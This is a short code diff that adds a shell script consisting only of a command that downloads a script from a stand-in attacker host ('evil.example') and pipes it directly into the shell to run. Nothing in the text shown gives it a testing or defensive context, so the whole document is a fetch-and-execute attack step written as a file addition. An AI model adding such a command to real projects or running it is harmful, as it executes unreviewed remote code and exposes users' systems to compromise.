@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://evil.example/x.sh | sh
